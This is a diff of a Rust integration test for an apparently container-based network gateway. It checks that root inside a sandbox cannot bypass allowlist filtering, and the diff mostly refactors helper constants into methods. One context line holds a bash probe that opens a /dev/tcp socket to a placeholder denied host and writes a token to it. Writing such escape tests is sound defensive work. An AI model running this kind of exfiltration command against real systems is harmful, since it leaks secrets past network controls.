@@ -14,7 +14,7 @@ use std::sync::{Arc, Mutex};
 use crate::support::env::TestEnv;
 use crate::support::lab;
 use crate::support::wait::eventually;
-use crate::support::walls::{BRIDGE, GATEWAY, Place, Walls};
+use crate::support::walls::{Place, Walls};
 use crate::support::wan;
 
 const PROBE: &str = include_str!("support/probe.pl");
@@ -43,9 +43,9 @@ impl Targets {
                        'exec 3<>/dev/tcp/DENIED/443 && echo $TOKEN >&3 && head -n 1 <&3'";
         let words: [(&str, &dyn Display); 16] = [
             ("CONNECT", &connect),
-            ("DENIED", &wan::address(20)),
-            ("ALLOWED", &wan::address(10)),
-            ("OTHER", &wan::address(66)),
+            ("DENIED", &wan::address(wan::FIRST, 20)),
+            ("ALLOWED", &wan::address(wan::FIRST, 10)),
+            ("OTHER", &wan::address(wan::FIRST, 66)),
             ("OWN_MAC", &self.own.mac),
             ("OWN", &self.own.address),
             ("NEIGHBOUR_MAC", &self.neighbour.mac),
@@ -342,10 +342,10 @@ fn host_address() -> String {
 #[ignore = "needs Incus"]
 fn root_in_pixel_cannot_bypass_gateway() {
     lab::ready();
-    let walls = Walls::new("esc");
-    walls.wan.name("allowed.test", &[wan::address(10)]);
-    walls.wan.name("other.test", &[wan::address(20)]);
-    walls.wan.name("ported.test", &[wan::address(21)]);
+    let walls = Walls::new("esc", wan::Wan::first());
+    walls.wan.name("allowed.test", &[10]);
+    walls.wan.name("other.test", &[20]);
+    walls.wan.name("ported.test", &[21]);
     let a = walls.create("a", "allowlist", &["allowed.test", "ported.test:443"]);
     let b = walls.create("b", "allowlist", &["other.test"]);
     let d = walls.create("d", "unrestricted", &[]);
@@ -357,7 +357,9 @@ fn root_in_pixel_cannot_bypass_gateway() {
     walls.comes_to_reach(&b, "other.test", 80);
 
     let host = Host::listen(&host_address());
-    let uplink = walls.server.get(&format!("/1.0/instances/{GATEWAY}/state"));
+    let uplink = walls
+        .server
+        .get(&format!("/1.0/instances/{}/state", walls.gateway_name()));
     let uplink = uplink["network"]["eth0"]["addresses"][0]["address"]
         .as_str()
         .unwrap()
@@ -365,7 +367,7 @@ fn root_in_pixel_cannot_bypass_gateway() {
     let neighbour = walls.place(&b);
     let element = format!("inet pixels resolvers {{ {} }}", neighbour.address);
     let get = ["nft", &format!("get element {element}")];
-    let ports = walls.server.run(GATEWAY, &get);
+    let ports = walls.server.run(&walls.gateway_name(), &get);
     // The only word that is a number.
     let port = ports.split_whitespace().find_map(|word| word.parse().ok());
     let resolver = port.unwrap_or_else(|| panic!("no port in {ports}"));
@@ -374,7 +376,7 @@ fn root_in_pixel_cannot_bypass_gateway() {
         neighbour,
         gateway: walls.gateway(),
         uplink,
-        bridge_mac: mac_of(BRIDGE),
+        bridge_mac: mac_of(&walls.wan.bridge()),
         host: host_address(),
         host_port: host.port,
         resolver,
